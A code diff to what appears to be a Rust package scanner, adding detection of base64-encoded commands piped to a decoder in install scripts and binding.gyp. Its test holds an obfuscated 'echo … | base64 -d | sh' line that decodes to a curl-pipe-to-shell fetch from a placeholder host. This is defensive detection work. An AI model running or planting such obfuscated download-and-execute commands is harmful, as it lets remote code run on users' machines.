@@ -465,6 +465,9 @@ impl<'o> Package<'o> {
             for target in script_targets(cmd) {
                 install_roots.push(target);
             }
+            for decoded in shell_decoded(cmd) {
+                files.push(FileCtx::script(name, &decoded, line));
+            }
         }
         // node-gyp runs the `<!(…)` / `<!@(…)` command expansions of binding.gyp while it loads
         // the file, i.e. during the install build.
@@ -482,6 +485,11 @@ impl<'o> Package<'o> {
                     files.push(f);
                 }
                 install_roots.extend(script_targets(&cmd));
+                for decoded in shell_decoded(&cmd) {
+                    let mut f = FileCtx::script("binding.gyp", &decoded, line);
+                    f.path = "binding.gyp".into();
+                    files.push(f);
+                }
             }
         }
         link_exports(&mut files, limits);
@@ -1052,6 +1060,27 @@ pub fn script_targets(cmd: &str) -> Vec<String> {
     out
 }
 
+/// The commands a shell command decodes for itself: base64 literals of a command that pipes
+/// through `base64 -d` / `--decode` (`echo KHRhciBj… | base64 -d | sh`), decoded to text so the
+/// script rules read what runs. At most four, each of 16 to 64 KiB characters.
+pub fn shell_decoded(cmd: &str) -> Vec<String> {
+    let decodes = crate::regex!(r"\bbase64\s+(-d|--decode|-D)\b");
+    if !decodes.is_match(cmd) {
+        return Vec::new();
+    }
+    let literal = crate::regex!(r"[A-Za-z0-9+/]{16,65536}={0,2}");
+    literal
+        .find_iter(cmd)
+        .filter_map(|m| crate::decode::base64_bytes(m.as_str()))
+        .filter_map(|b| crate::decode::loose_text(&b))
+        .filter(|t| {
+            t.chars()
+                .all(|c| !c.is_control() || c == '\n' || c == '\t' || c == '\r')
+        })
+        .take(4)
+        .collect()
+}
+
 /// The `<!(cmd)` and `<!@(cmd)` command expansions of a binding.gyp, with their lines.
 pub fn gyp_commands(text: &str) -> Vec<(String, u32)> {
     let mut out = Vec::new();
@@ -1218,6 +1247,20 @@ mod config_tests {
             ]
         );
         assert!(gyp_commands("{\"sources\": [\"a.cc\"], \"x\": \"<!\"}").is_empty());
+    }
+
+    #[test]
+    fn base64_piped_to_a_decoder_is_read_as_the_command_it_hides() {
+        // `echo … | base64 -d | sh` runs what the literal decodes to.
+        let cmd = "sh -c \"echo Y3VybCAtcyBodHRwOi8veC5leGFtcGxlL3xzaA== | base64 -d | sh\"";
+        assert_eq!(
+            shell_decoded(cmd),
+            vec!["curl -s http://x.example/|sh".to_string()]
+        );
+        // Without a decoding step a base64-looking word is left alone.
+        assert!(
+            shell_decoded("echo Y3VybCAtcyBodHRwOi8veC5leGFtcGxlL3xzaA== > token.txt").is_empty()
+        );
     }
 
     #[test]
